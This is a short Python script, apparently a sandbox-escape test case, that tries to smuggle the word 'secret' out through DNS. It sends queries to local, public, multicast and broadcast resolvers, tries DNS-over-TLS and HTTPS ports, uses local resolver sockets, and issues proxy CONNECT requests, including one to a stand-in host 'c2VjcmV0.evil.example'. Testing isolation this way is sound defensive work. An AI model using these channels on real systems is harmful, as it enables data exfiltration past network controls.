"""Carry data out in the names that are looked up: by resolvers, over UDP and TCP, encrypted, by multicast, by the proxy."""

# aims: outside
# control: harms
# seconds: 15
import os
import socket
import struct

from attack import attempt, target, tried

query = struct.pack("!HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\x06secret\x07invalid\x00\x00\x10\x00\x01"
resolvers = [
    ("127.0.0.1", int(target["udp"])),
    ("127.0.0.53", 53),
    ("127.0.0.11", 53),
    ("8.8.8.8", 53),
    ("1.1.1.1", 53),
]
resolvers += [("224.0.0.251", 5353), ("224.0.0.252", 5355), ("255.255.255.255", 137)]
tried()
for address in resolvers:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(0.1)
        sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        attempt(sender.sendto, query, address)
        attempt(sender.recv, 512)
for address in (("8.8.8.8", 53), ("1.1.1.1", 853), ("9.9.9.9", 443)):
    attempt(lambda address=address: socket.create_connection(address, 0.2))
attempt(socket.getaddrinfo, "secret.invalid", 80)
for path in ("/run/systemd/resolve/io.systemd.Resolve", "/var/run/nscd/socket", "/run/avahi-daemon/socket"):
    with socket.socket(socket.AF_UNIX) as local:
        attempt(local.connect, path)
if os.environ.get("HTTP_PROXY"):
    from proxied import say

    for name in ("c2VjcmV0.evil.example:443", "dns.google:443", "cloudflare-dns.com:443", "1.1.1.1:853"):
        say(f"CONNECT {name} HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
